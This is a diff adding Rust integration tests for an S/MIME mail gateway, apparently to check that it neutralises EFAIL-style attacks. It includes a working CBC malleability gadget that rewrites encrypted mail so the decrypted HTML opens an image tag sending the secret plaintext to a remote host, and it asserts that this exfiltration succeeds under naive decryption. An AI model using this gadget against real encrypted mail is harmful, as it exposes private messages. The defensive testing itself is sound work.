@@ -314,3 +314,271 @@ fn quarantine_mode_shows_no_difference_between_intact_and_padding_corrupted_ciph
     assert_eq!(seen.len(), 1, "only the control's DSN may leave");
     assert!(seen[0].text().contains("plain-ctl@test"));
 }
+
+/// A DER node: tag, and either content bytes or children.
+enum Der {
+    Prim(u8, Vec<u8>),
+    Cons(u8, Vec<Der>),
+}
+
+fn der_parse(mut b: &[u8]) -> Vec<Der> {
+    let mut out = Vec::new();
+    while !b.is_empty() {
+        let tag = b[0];
+        let (len, hdr) = match b[1] {
+            l if l < 0x80 => (l as usize, 2),
+            l => {
+                let n = (l & 0x7f) as usize;
+                let len = b[2..2 + n]
+                    .iter()
+                    .fold(0usize, |a, x| (a << 8) | *x as usize);
+                (len, 2 + n)
+            }
+        };
+        let content = &b[hdr..hdr + len];
+        out.push(if tag & 0x20 != 0 {
+            Der::Cons(tag, der_parse(content))
+        } else {
+            Der::Prim(tag, content.to_vec())
+        });
+        b = &b[hdr + len..];
+    }
+    out
+}
+
+fn der_write(node: &Der, out: &mut Vec<u8>) {
+    let (tag, content) = match node {
+        Der::Prim(t, c) => (*t, c.clone()),
+        Der::Cons(t, kids) => {
+            let mut c = Vec::new();
+            for k in kids {
+                der_write(k, &mut c);
+            }
+            (*t, c)
+        }
+    };
+    out.push(tag);
+    let len = content.len();
+    if len < 0x80 {
+        out.push(len as u8);
+    } else {
+        let bytes: Vec<u8> = len
+            .to_be_bytes()
+            .into_iter()
+            .skip_while(|b| *b == 0)
+            .collect();
+        out.push(0x80 | bytes.len() as u8);
+        out.extend_from_slice(&bytes);
+    }
+    out.extend_from_slice(&content);
+}
+
+fn kids(node: &mut Der) -> &mut Vec<Der> {
+    match node {
+        Der::Cons(_, k) => k,
+        Der::Prim(..) => panic!("not constructed"),
+    }
+}
+
+/// The EFAIL CBC gadget: with the first plaintext block `known`, the
+/// ciphertext C0 C1 C2 … becomes C0 C1 C2 X C0 C1 C2 …, where X makes the
+/// second C0 decrypt to `chosen`; everything after it decrypts as the
+/// original from its second block on. What the mailbox would see:
+/// P0 P1 P2 <garbage> chosen P1 P2 P3 …
+fn cbc_gadget(der: &[u8], known: &[u8; 16], chosen: &[u8; 16]) -> Vec<u8> {
+    let mut top = der_parse(der).remove(0);
+    let enveloped = &mut kids(&mut kids(&mut top)[1])[0];
+    let eci = kids(enveloped).last_mut().expect("EncryptedContentInfo");
+    let parts = kids(eci);
+    let iv = match &kids(&mut parts[1])[1] {
+        Der::Prim(0x04, iv) => iv.clone(),
+        _ => panic!("no IV"),
+    };
+    let Der::Prim(0x80, ct) = &mut parts[2] else {
+        panic!("no primitive encrypted content")
+    };
+    let x: Vec<u8> = (0..16).map(|i| known[i] ^ iv[i] ^ chosen[i]).collect();
+    let mut out = ct[..48].to_vec();
+    out.extend_from_slice(&x);
+    out.extend_from_slice(&ct[..16]);
+    out.extend_from_slice(&ct[16..]);
+    *ct = out;
+    let mut bytes = Vec::new();
+    der_write(&top, &mut bytes);
+    bytes
+}
+
+/// Every attribute value of every element of `html`, as an HTML5
+/// tokenizer reads them.
+fn attribute_values(html: &str) -> Vec<String> {
+    let values = std::cell::RefCell::new(Vec::new());
+    lol_html::rewrite_str(
+        html,
+        lol_html::RewriteStrSettings::new().append_element_content_handler(lol_html::element!(
+            "*",
+            |el| {
+                for a in el.attributes() {
+                    values
+                        .borrow_mut()
+                        .push(format!("{}={}", a.name(), a.value()));
+                }
+                Ok(())
+            }
+        )),
+    )
+    .unwrap();
+    values.into_inner()
+}
+
+fn delivered(mailbox: &Sink, id: &str) -> common::sink::Received {
+    let needle = format!("<{id}@test>");
+    assert!(
+        wait_until(Duration::from_secs(30), || mailbox
+            .received()
+            .iter()
+            .any(|r| r.text().contains(&needle))),
+        "{id} not delivered"
+    );
+    mailbox
+        .received()
+        .into_iter()
+        .find(|r| r.text().contains(&needle))
+        .unwrap()
+}
+
+fn trace(text: &str) -> String {
+    let unfolded = text.replace("\r\n ", " ").replace("\r\n\t", " ");
+    unfolded
+        .lines()
+        .find_map(|l| l.strip_prefix("X-SMIME-Gateway: "))
+        .unwrap_or("")
+        .to_string()
+}
+
+fn html_of(data: &[u8]) -> String {
+    mail_parser::MessageParser::default()
+        .parse(data)
+        .and_then(|m| m.body_html(0).map(|h| h.into_owned()))
+        .unwrap_or_default()
+}
+
+#[test]
+fn efail_gadget_in_cbc_mail_is_not_live_in_the_mailbox() {
+    let mailbox = Sink::start(Script::default());
+    let outside = Sink::start(Script::default());
+    let gw = gateway(&mailbox, &outside, "");
+
+    // The victim's HTML mail, encrypted with AES-CBC to the organisation.
+    let victim = format!(
+        "Content-Type: text/html; charset=utf-8\r\n\r\n<!--xx-->\r\n<html><body><p>{SECRET}</p>\
+         <p class=\"sig\">Med venlig hilsen</p></body></html>\r\n"
+    );
+    assert_eq!(&victim.as_bytes()[32..48], b"=utf-8\r\n\r\n<!--xx");
+    let cms = captured(victim.as_bytes(), "-aes-256-cbc");
+    let known: [u8; 16] = victim.as_bytes()[..16].try_into().unwrap();
+    let malleated = cbc_gadget(&cms, &known, b"--><img src=\"//a");
+
+    // The gadget works: decrypted as is, the HTML sends the secret to a
+    // remote host.
+    let naive = pki::openssl(
+        &[
+            "cms",
+            "-decrypt",
+            "-inform",
+            "DER",
+            "-inkey",
+            pki::key("org-oces3").to_str().unwrap(),
+            "-recip",
+            pki::cert("org-oces3").to_str().unwrap(),
+        ],
+        &malleated,
+    );
+    let naive = String::from_utf8_lossy(&naive).into_owned();
+    let remote: Vec<String> = attribute_values(&naive)
+        .into_iter()
+        .filter(|v| v.starts_with("src=//a"))
+        .collect();
+    assert!(
+        remote.iter().any(|v| v.contains(SECRET)),
+        "the gadget did not work: {naive:?}"
+    );
+
+    assert_eq!(
+        send(
+            &gw,
+            "bob@example-law.dk",
+            &enveloped("efail-1", "bob@example-law.dk", &malleated)
+        )
+        .code,
+        250
+    );
+    // Control: AES-GCM (authenticated) HTML with a remote image passes as is.
+    let gcm_html = "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Logo: <img src=\"https://example.org/logo.png\"></p>\r\n";
+    let gcm = pki::cms_encrypt(
+        gcm_html.as_bytes(),
+        "org-oces3",
+        &[
+            "-aes-256-gcm",
+            "-recip",
+            pki::cert("org-oces3").to_str().unwrap(),
+            "-keyopt",
+            "rsa_padding_mode:oaep",
+        ],
+    );
+    assert_eq!(
+        send(
+            &gw,
+            "bob@example-law.dk",
+            &pki::enveloped_message(
+                "gcm-1",
+                "bob@example-law.dk",
+                &gcm,
+                "application/pkcs7-mime; smime-type=authEnveloped-data"
+            )
+        )
+        .code,
+        250
+    );
+    // Control: CBC content under a valid inner signature passes as is.
+    let signed = pki::crlf(&pki::cms_sign(gcm_html.as_bytes(), "alice-oces3"));
+    let signed_cbc = captured(&signed, "-aes-256-cbc");
+    assert_eq!(
+        send(
+            &gw,
+            "bob@example-law.dk",
+            &enveloped("signed-cbc", "bob@example-law.dk", &signed_cbc)
+        )
+        .code,
+        250
+    );
+
+    let got = delivered(&mailbox, "efail-1");
+    let text = got.text();
+    let t = trace(&text);
+    assert!(
+        t.contains("integrity=none") && t.contains("html=neutralised"),
+        "{t}"
+    );
+    let html = html_of(&got.data);
+    // The mailbox still gets the mail (the planted URL, secret and all,
+    // is gone with the attribute that held it).
+    assert!(html.contains("Med venlig hilsen"), "{html}");
+    let values = attribute_values(&html);
+    assert!(
+        !values.iter().any(|v| v.contains("//")),
+        "a remote reference is live: {values:?}\n{html}"
+    );
+
+    let got = delivered(&mailbox, "gcm-1");
+    assert!(!trace(&got.text()).contains("integrity"), "{}", got.text());
+    assert!(html_of(&got.data).contains("<img src=\"https://example.org/logo.png\">"));
+
+    let got = delivered(&mailbox, "signed-cbc");
+    let t = trace(&got.text());
+    assert!(
+        t.contains("signature=valid") && !t.contains("integrity"),
+        "{t}"
+    );
+    assert!(got.text().contains("https://example.org/logo.png"));
+    assert_eq!(outside.count(), 0);
+}
